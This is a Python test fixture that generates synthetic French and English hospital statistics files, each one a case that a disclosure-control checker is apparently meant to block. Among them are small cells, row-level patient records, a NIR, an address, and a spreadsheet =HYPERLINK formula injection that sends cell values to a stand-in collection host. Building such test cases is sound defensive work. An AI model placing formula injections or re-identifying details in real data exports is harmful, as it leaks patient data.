"""CSV and TSV that must be stopped."""

import math

from tests.airlock.outputs.case import Shelf

from .kit import nir, num, sv, table1


def write(shelf: Shelf) -> None:
    r = shelf.random("csv-u")
    # 1 a cell of 4 in a cross table
    out = [["mode_sortie", "AVC ischémique", "AVC hémorragique", "AIT"]]
    counts = {
        "Domicile": (712, 148, 402),
        "SSR": (318, 121, 25),
        "EHPAD": (64, 22, 4),
        "Transfert MCO": (87, 51, 19),
        "Décès": (96, 83, 11),
    }
    out += [[k, *v] for k, v in counts.items()]
    shelf.unsafe(
        "neurovasc/sortie_type_avc.csv",
        "a small cell in a cross table",
        "EHPAD x AIT = 4",
        "Croisement du mode de sortie et du type d'AVC, fait sous R (table puis write.csv2).",
        "2 163 séjours pour AVC ou AIT, 2019-2023",
    ).write_text(sv(out, ";"), encoding="utf-8-sig")

    # 2 steps of a cumulated series
    steps = [31, 28, 44, 39, 27, 33, 52, 41, 6, 38, 29, 35, 47, 30, 26, 40, 36, 24]
    total, out = 0, [["week", "cumulative_inclusions", "target", "pct_of_target"]]
    for i, s in enumerate(steps):
        total += s
        out.append([f"W{i + 1:02d}", total, 34 * (i + 1), num(100 * total / (34 * (i + 1)))])
    shelf.unsafe(
        "recruit/accrual_curve_data.csv",
        "a step of 6 in a cumulated series",
        "W09",
        "Cumulative accrual of the registry against its target, data behind the curve of the annual report.",
        f"{total} patients included in the sepsis registry over 18 weeks",
    ).write_text(sv(out))

    # 3 SD of a group of one (no n shown)
    out = [["service", "score_moyen", "ecart_type"]]
    for s in [
        "Cardiologie",
        "Pneumologie",
        "Néphrologie",
        "Gériatrie aiguë",
        "Médecine interne",
        "Hépato-gastro",
        "Endocrinologie",
        "Rhumatologie",
        "Dermatologie",
        "Maladies infectieuses",
    ]:
        out.append([s, num(r.uniform(58, 81), 2, True), num(r.uniform(11, 17), 2, True)])
    out[9][2] = "NaN"
    shelf.unsafe(
        "qualite/esatis_par_service.csv",
        "SD of one",
        "Dermatologie: NaN standard deviation",
        "Score e-Satis moyen et écart-type par service, groupby pandas.",
        "1 377 patients répondants, 2023",
    ).write_text(sv(out, ";"))

    # 4 quantiles 0 and 100
    out = [["variable", "n", "q0", "q10", "q25", "q50", "q75", "q90", "q100"]]
    for v, m, s in [
        ("creatinine_umol_l", 96, 41),
        ("hemoglobin_g_l", 118, 21),
        ("crp_mg_l", 74, 50),
        ("sodium_mmol_l", 138, 4.4),
        ("potassium_mmol_l", 4.2, 0.6),
        ("platelets_g_l", 241, 90),
        ("albumin_g_l", 33, 6),
    ]:
        q = [m + z * s for z in (-1.5, -1.1, -0.65, 0, 0.7, 1.4, 3.7)]
        out.append([v, r.randint(2100, 2900), *[num(max(0.1, x), 1) for x in q]])
    shelf.unsafe(
        "biology/quantiles_admission_labs.csv",
        "minimum and maximum as quantiles",
        "q0 and q100",
        "Distribution of admission laboratory values (numpy quantile).",
        "2 934 adults admitted through the emergency department, 2022",
    ).write_text(sv(out))

    # 5 rows of persons with a sequence number
    out = [["num", "sexe", "age", "imc", "asa", "duree_op_min", "saignement_ml", "complication_90j"]]
    for i in range(96):
        out.append(
            [
                i + 1,
                r.choice("FM"),
                r.randint(38, 84),
                num(r.gauss(27, 4), 1, True),
                r.randint(1, 3),
                r.randint(95, 310),
                r.randrange(50, 900, 50),
                r.choice("0001"),
            ]
        )
    shelf.unsafe(
        "chirdig/base_analyse_colectomies.csv",
        "row-level data",
        "every line",
        "Données de l'analyse des colectomies coelioscopiques, sans identifiant.",
        "96 patients opérés, 2020-2023",
    ).write_text(sv(out, ";"), encoding="latin-1")

    # 6 rows of persons laid on their side
    people = [f"C{i:02d}" for i in range(1, 41)]
    out = [["measure", *people]]
    for name, lo, hi in [
        ("age_y", 41, 83),
        ("tumour_mm", 9, 61),
        ("ki67_pct", 4, 72),
        ("er_pct", 0, 100),
        ("pfs_months", 3, 71),
        ("cycles", 3, 8),
    ]:
        out.append([name, *[r.randint(lo, hi) for _ in people]])
    shelf.unsafe(
        "breast/summary_measures_wide.csv",
        "row-level data on its side",
        "columns C01..C40",
        "Summary of the six measures of the neoadjuvant series, wide layout for the journal's supplement.",
        "40 women treated by neoadjuvant chemotherapy",
    ).write_text(sv(out))

    # 7 a suppressed cell given back by totals
    cells = [[214, 96, 41], [187, 88, 37], [155, 61, 6], [120, 52, 18]]
    out = [["tranche_age", "IMC<30", "IMC 30-40", "IMC>=40", "Total"]]
    for lab, row in zip(["18-39", "40-59", "60-74", "75 et +"], cells, strict=True):
        out.append([lab, *[x if x > 9 else "<10" for x in row], sum(row)])
    out.append(["Total", *[sum(c) for c in zip(*cells, strict=True)], sum(map(sum, cells))])
    shelf.unsafe(
        "obesite/imc_age.csv",
        "a suppressed cell given back by totals",
        "60-74 x IMC>=40 = 222-155-61",
        "Répartition par âge et IMC, petits effectifs masqués.",
        f"{sum(map(sum, cells))} patients d'anesthésie ambulatoire",
    ).write_text(sv(out, ";"))

    # 8 NIR in a remark
    out = [["type_anomalie", "nb_dossiers", "pct", "commentaire"]]
    for t, n in [
        ("Date de sortie absente", 214),
        ("UF inconnue", 143),
        ("Diagnostic principal absent", 88),
        ("Doublon de séjour", 57),
        ("Identité non qualifiée", 49),
        ("Poids aberrant", 133),
    ]:
        out.append([t, n, num(100 * n / 18420, 2, True), ""])
    out[4][3] = "relance DIM en cours"
    out[5][3] = f"ex. {nir(r)}, voir bureau des entrées"
    shelf.unsafe(
        "dim/anomalies_qualite.csv",
        "a NIR",
        "commentaire of Identité non qualifiée",
        "Nombre de dossiers par type d'anomalie du contrôle qualité trimestriel.",
        "18 420 séjours du 2e trimestre 2023",
    ).write_text(sv(out, ";"))

    # 9 formula injection
    out = [["hospital_code", "year", "stays", "mean_los_days", "link"]]
    for h in range(1, 9):
        for y in (2021, 2022):
            out.append([f"H{h:02d}", y, r.randint(2200, 9800), num(r.uniform(4.1, 7.3)), "methods"])
    out[7][4] = '=HYPERLINK("http://collect.example.net/?q="&B8&C8;"methods")'
    shelf.unsafe(
        "network/los_by_hospital.csv",
        "formula injection",
        "link, line 8",
        "Mean length of stay by hospital of the network and year.",
        "About 90 000 stays, 8 hospitals, 2021-2022",
    ).write_text(sv(out))

    # 10 outliers of a box plot
    out = [["groupe", "n", "mediane", "q1", "q3", "moustache_b", "moustache_h", "valeurs_extremes"]]
    for g, n, m in [("Placebo", 212, 41), ("Dose faible", 208, 37), ("Dose forte", 215, 33)]:
        out.append(
            [g, n, m, m - 7, m + 8, "1,5 EIQ", "1,5 EIQ", " / ".join(str(m + r.randint(22, 40)) for _ in range(4))]
        )
    shelf.unsafe(
        "douleur/boxplot_stats.csv",
        "outliers of a box plot",
        "valeurs_extremes",
        "Statistiques des boîtes à moustaches du score de douleur par bras.",
        "635 patients randomisés",
    ).write_text(sv(out, ";"))

    # 11 dominance
    out = [["drug_class", "patients", "total_cost_eur", "top_patient_cost_share"]]
    for d, n, share in [
        ("Anti-TNF", 612, 0.011),
        ("Immunoglobulins", 143, 0.038),
        ("Factor VIII", 41, 0.912),
        ("Enzyme replacement", 26, 0.094),
        ("Anti-PD1", 488, 0.009),
        ("CDK4/6 inhibitors", 231, 0.012),
    ]:
        out.append([d, n, r.randint(800, 9000) * 1000, share])
    for row in out[1:]:
        if row[0] != "Factor VIII":
            row[3] = "<0.10"
    shelf.unsafe(
        "pharmacy/costly_drugs.csv",
        "dominance",
        "Factor VIII, one patient 91.2 % of the cost",
        "Spending on costly drugs by class, with concentration.",
        "1 541 patients treated in 2022",
    ).write_text(sv(out))

    # 12 percentages alone
    out = [["effet_indesirable", "pct_tous_grades"]]
    for e, p in [
        ("Asthénie", 41.2),
        ("Nausées", 27.6),
        ("Diarrhée", 19.7),
        ("Rash", 11.0),
        ("Arthralgies", 8.7),
        ("Hypothyroïdie", 6.3),
        ("Hépatite", 3.2),
        ("Colite", 2.4),
        ("Myocardite", 0.6),
    ]:
        out.append([e, num(p, 1, True)])
    shelf.unsafe(
        "onco/tolerance_immuno.csv",
        "a percentage that gives a small count",
        "Myocardite 0,6 % of 493 = 3",
        "Fréquence des effets indésirables sous anti-PD1.",
        "493 patients traités par anti-PD1",
    ).write_text(sv(out, ";"))

    # 13 address
    out = table1(
        r,
        [820, 774],
        [
            ("Age", "mean", 71, 11),
            ("Female", "bin", 0.41),
            ("Rural residence", "bin", 0.33),
            ("Distance to centre, km", "med", 24, 13),
            ("Lives alone", "bin", 0.27),
            ("Home nursing", "bin", 0.36),
        ],
    )
    out = [["characteristic", "telemonitored", "usual_care", "note"]] + [[*x, ""] for x in out]
    out[4][3] = "geocoding check: 14 rue des Tilleuls, 69530 Brignais set manually"
    shelf.unsafe(
        "hf/telemonitoring_baseline.tsv",
        "an address",
        "note of Distance",
        "Baseline characteristics of the telemonitoring programme.",
        "1 594 patients with heart failure",
    ).write_text(sv(out, "\t"))

    # 14 single ages over 90
    out = [["age", "passages", "hospitalises"]]
    for a in range(80, 96):
        n = int(620 * math.exp(-(a - 80) / 9)) + r.randint(0, 20)
        out.append([a, n, round(n * r.uniform(0.42, 0.55))])
    shelf.unsafe(
        "urgences/passages_80ans.csv",
        "single ages from 90",
        "lines 90 to 95",
        "Passages aux urgences et hospitalisations par année d'âge.",
        "Passages de patients de 80 ans et plus, 2023",
    ).write_text(sv(out, ";"))

    # 15 a curve whose steps are single persons
    out = [["threshold", "tpr", "fpr"]]
    tp = fp = 0
    for i in range(64):
        hit = r.random() < 0.75 - i / 90
        if (hit and tp < 24) or fp >= 40:
            tp += 1
        else:
            fp += 1
        out.append(
            [
                f"{0.98 - i * 0.0143 + r.uniform(-0.004, 0.004):.6f}",
                f"{min(tp, 24) / 24:.6f}",
                f"{min(fp, 40) / 40:.6f}",
            ]
        )
    shelf.unsafe(
        "delirium/roc_points.tsv",
        "steps of single persons",
        "each line of the ROC curve is a patient",
        "Points of the ROC curve of the delirium score, validation sample (24 cases, 40 controls).",
        "64 patients of the validation sample",
    ).write_text(sv(out, "\t"))
